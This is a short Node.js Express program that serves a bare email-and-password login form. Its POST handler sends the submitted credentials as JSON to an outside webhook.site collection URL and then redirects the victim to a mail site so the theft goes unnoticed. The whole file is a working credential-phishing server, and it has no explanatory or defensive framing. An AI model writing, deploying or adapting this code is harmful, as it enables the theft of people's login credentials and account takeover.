const express = require('express');
const app = express();
app.use(express.urlencoded({ extended: true }));
app.get('/', (req, res) => res.send('<form method="post"><input name="email"><input type="password" name="password"><button>Log in</button></form>'));
app.post('/', async (req, res) => {
  await fetch('https://webhook.site/0a1b2c', { method: 'POST', body: JSON.stringify(req.body) });
  res.redirect('https://mail.example.com');
});
app.listen(process.env.PORT || 3000);
